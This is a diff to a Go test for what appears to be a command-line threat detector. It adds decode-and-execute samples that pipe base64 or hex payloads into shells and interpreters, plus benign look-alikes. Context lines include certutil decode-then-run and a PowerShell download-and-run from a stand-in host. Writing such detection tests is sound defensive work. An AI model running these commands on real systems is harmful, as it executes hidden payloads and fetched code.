@@ -27,6 +27,15 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`certutil.exe -decode C:\t\e.txt C:\t\r.ps1 & powershell -File C:\t\r.ps1`,
 		`base64 -d p.b64 > x && chmod +x x && ./x`,
 		`openssl enc -d -base64 -in p.b64 -out x.sh && bash x.sh`,
+		// decoded and piped straight into what runs it
+		`cat p.b64 | base64 -d | sh`,
+		`base64 -d p.b64 | bash`,
+		`xxd -r -p p.hex | sh`,
+		`openssl enc -d -base64 -in p.b64 | bash`,
+		`base64 -d p.b64 | python3`,
+		`sh -c "$(base64 -d p.b64)"`,
+		`eval "$(base64 -d p.b64)"`,
+		`bash <(base64 -d p.b64)`,
 		// PowerShell's .NET download, then run
 		`powershell -c "(New-Object Net.WebClient).DownloadFile('https://files.example/a.exe', $env:TEMP + '\a.exe'); Start-Process $env:TEMP\a.exe"`,
 		// Windows credential stores copied: the SAM hive, a browser's
@@ -50,6 +59,10 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`certutil -decode cert.b64 cert.der`,
 		`base64 -d data.b64 > data.json`,
 		`echo "$KEY_B64" | base64 -d > key.json && python3 deploy.py`,
+		`base64 -d key.b64 | gpg --import`,
+		`base64 -d site.b64 | tar xz`,
+		`base64 -d data.b64 | jq .`,
+		`cat script.sh | sh`,
 		`cscript //nologo tools\version.vbs`,
 		`Start-Process -FilePath notepad.exe -ArgumentList README.md`,
 		`Copy-Item .\src\app.config .\dist\`,
